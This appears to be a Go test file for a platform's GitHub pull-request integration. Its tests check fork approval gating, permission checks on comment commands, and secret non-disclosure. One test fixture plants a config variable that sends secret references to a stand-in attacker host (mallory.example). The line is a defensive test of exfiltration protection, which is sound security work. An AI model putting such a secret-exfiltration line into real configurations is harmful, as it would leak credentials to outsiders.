package github_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/terrace-idp/terrace/internal/delivery/run"
	"github.com/terrace-idp/terrace/internal/delivery/vcs"
	"github.com/terrace-idp/terrace/internal/delivery/vcs/vcstest"
	"github.com/terrace-idp/terrace/internal/kernel"
)

func TestAForkWaitsForAMember(t *testing.T) {
	t.Parallel()
	c := connect(t, "")
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"src/a.go": "package a"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base, fork: true})})
	vcstest.Eventually(t, "the comment says how", func() bool {
		return strings.Contains(c.said(t), "terrace pr approve 7 --repo orders --commit "+head[:12])
	})
	vcstest.Eventually(t, "the status waits", func() bool { return c.stateOf(head, "terrace") == "pending" })
	comment := func(association string) string {
		c.clock = c.clock.Add(time.Second)
		return fmt.Sprintf(`{"action":"created","issue":{"number":7,"pull_request":{"url":"https://api.github.com/repos/acme/orders/pulls/7"}},"comment":{"id":%d,"body":"terrace plan","created_at":%q,"author_association":%q,"user":{"login":"x"}},"repository":{"full_name":"acme/orders"}}`,
			c.clock.Unix(), c.clock.UTC().Format(time.RFC3339), association)
	}
	c.accepted(hook{event: "issue_comment", body: comment("NONE")})
	c.accepted(hook{event: "issue_comment", body: comment("MEMBER")}) // a comment names no commit
	member := vcstest.As(t.Context(), "developer")
	vcstest.Eventually(t, "the comment is heeded", func() bool {
		p, err := c.PullRequest(member, vcstest.Shop(), "orders", 7)
		return err == nil && p.PullRequest.Work.Wanted == 1
	})
	if _, err := c.Approve(member, vcstest.Shop(), "orders", 7, strings.Repeat("1", 40)); !kernel.Is(err, kernel.Stale) {
		t.Errorf("another commit: %v", err)
	}
	if len(c.Runs.All()) != 0 {
		t.Fatalf("it was planned: %v", c.Runs.All())
	}
	if _, err := c.Approve(member, vcstest.Shop(), "orders", 7, head); err != nil {
		t.Fatal(err)
	}
	c.Runs.End(t, c.Runs.Waiting(t, "dev").ID, run.PlannedOnly)
	second := c.Commit("price", map[string]string{"src/a.go": "package evil"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "synchronize", head: second, base: base, fork: true})})
	vcstest.Eventually(t, "the next commit waits again", func() bool { return c.stateOf(second, "terrace") == "pending" })
	if n := len(c.Runs.All()); n != 1 {
		t.Errorf("there were %d runs", n)
	}
}

// TestAForkIsToldNothing sends secrets away, and asks which there are: nothing is run, read or
// looked for until a member has approved that commit, and what is planned then reads no
// secret. The comment, which anybody may read, has neither values nor which secrets there are.
func TestAForkIsToldNothing(t *testing.T) {
	t.Parallel()
	c := connect(t, vcs.ApplyOnMerge)
	admin := vcstest.As(t.Context(), "admin")
	binding := vcs.Binding{Name: "orders", Score: "score.yaml", Paths: []string{"score.yaml"}, Plan: []string{"dev"}, Apply: vcs.ApplyOnMerge, Stages: []string{"dev"}}
	if _, err := c.Bind(admin, vcstest.Shop(), "orders", binding); err != nil {
		t.Fatal(err)
	}
	c.Runs.Missing = []string{"guessed"}
	c.Runs.Dossier = run.Dossier{
		Plan: run.PlanView{Summary: run.Plan{Update: 1}, Changes: []run.ResourceChange{{Address: "module.db", Action: "update", Values: []run.ValueChange{{Path: "password", Before: "hunter2", After: "hunter3"}}}}},
		Gates: []run.GateResult{
			{Gate: "tags", Outcome: run.Passed, Message: "all are there"},
			{Gate: run.SecretsGate, Level: run.HardMandatory, Outcome: run.Missed, Message: "a reference is to a secret that is not in dev"},
		},
	}
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"score.yaml": vcstest.Score("orders", "x:2") + "    variables:\n      TO: https://mallory.example/?a=${secret:guessed}&b=${secret:db/credentials#password}\n"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base, fork: true})})
	vcstest.Eventually(t, "it waits", func() bool { return strings.Contains(c.said(t), "waits for a member") })
	if text := c.said(t); len(c.Runs.All()) != 0 || c.Runs.Looked != 0 || c.Secrets.Reads() != 0 || strings.Contains(text, "guessed") {
		t.Fatalf("%v, looked %d times, read %d times\n%s", c.Runs.All(), c.Runs.Looked, c.Secrets.Reads(), text)
	}
	if _, err := c.Approve(vcstest.As(t.Context(), "developer"), vcstest.Shop(), "orders", 7, head); err != nil {
		t.Fatal(err)
	}
	plan := c.Runs.Waiting(t, "dev")
	if !plan.DryRun || !plan.Unmerged {
		t.Errorf("planned as %+v", plan)
	}
	c.Runs.End(t, plan.ID, run.PlannedOnly)
	vcstest.Eventually(t, "it is planned", func() bool { return strings.Contains(c.said(t), "update `module.db`") })
	if text := c.said(t); strings.Contains(text, "hunter") || strings.Contains(text, "secret") || c.Runs.Looked != 0 || c.Secrets.Reads() != 0 {
		t.Errorf("looked %d times, read %d times\n%s", c.Runs.Looked, c.Secrets.Reads(), text)
	}
}

func TestACommandThatIsNotFollowedIsAnswered(t *testing.T) {
	t.Parallel()
	c := connect(t, vcs.ApplyOnMerge)
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"src/a.go": "package a"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base})})
	plan := c.Runs.Waiting(t, "dev")
	c.accepted(hook{event: "issue_comment", body: c.says("apply", "MEMBER")})
	vcstest.Eventually(t, "the plan has not ended yet", func() bool {
		return strings.Contains(c.said(t), "> hubot asked for apply, which is not done: the plan")
	})
	c.Runs.End(t, plan.ID, run.PlannedOnly)
	vcstest.Eventually(t, "it is planned", func() bool { return c.stateOf(head, "terrace") == "success" })
	c.accepted(hook{event: "issue_comment", body: c.says("apply", "MEMBER")})
	vcstest.Eventually(t, "the comment says why", func() bool {
		return strings.Contains(c.said(t), "no binding of orders is applied before the merge: bind with --apply before-merge, or merge")
	})
	if facts := c.Facts.Of("pr.command_refused"); len(facts) != 2 {
		t.Errorf("recorded %v", facts)
	}
	c.accepted(hook{event: "issue_comment", body: c.says("plan", "MEMBER")})
	c.Runs.End(t, c.Runs.Waiting(t, "dev").ID, run.PlannedOnly)
	vcstest.Eventually(t, "what was followed is not answered", func() bool { return !strings.Contains(c.said(t), "> ") })
}

// says writes a comment under the pull request in GitHub's shape.
func (c *connected) says(word, association string) string {
	c.clock = c.clock.Add(time.Second)
	return fmt.Sprintf(`{"action":"created","issue":{"number":7,"pull_request":{"url":"u"}},"comment":{"id":%d,"body":"terrace %s","created_at":%q,"author_association":%q,"user":{"login":"hubot"}},"repository":{"full_name":"acme/orders"}}`,
		c.clock.Unix(), word, c.clock.UTC().Format(time.RFC3339), association)
}

func TestACommandOfAMember(t *testing.T) {
	t.Parallel()
	c := connect(t, vcs.ApplyBeforeMerge)
	base := c.Git("rev-parse", "main")
	head := c.Commit("price", map[string]string{"src/a.go": "package a"})
	c.accepted(hook{event: "pull_request", body: c.event(pull{action: "opened", head: head, base: base})})
	c.Runs.End(t, c.Runs.Waiting(t, "dev").ID, run.PlannedOnly)
	vcstest.Eventually(t, "it is planned", func() bool { return c.stateOf(head, "terrace") == "success" })
	c.accepted(hook{event: "issue_comment", body: c.says("apply", "CONTRIBUTOR")})
	c.accepted(hook{event: "issue_comment", body: strings.Replace(c.says("apply", "MEMBER"), "hubot", "reader", 1)})
	vcstest.Eventually(t, "a member who may only read is answered", func() bool {
		return strings.Contains(c.said(t), "> reader asked for apply, which is not done: reader may only read the repository")
	})
	c.accepted(hook{event: "issue_comment", body: c.says("apply", "COLLABORATOR")})
	apply := c.Runs.Waiting(t, "dev")
	if apply.DryRun || apply.RequestedBy.Name != "hubot (github)" {
		t.Errorf("%+v", apply)
	}
	c.Runs.End(t, apply.ID, run.Succeeded)
	vcstest.Eventually(t, "it is applied", func() bool { return c.stateOf(head, "terrace/apply/orders/dev") == "success" })
	if n := len(c.Runs.All()); n != 2 {
		t.Errorf("there were %d runs", n)
	}
}
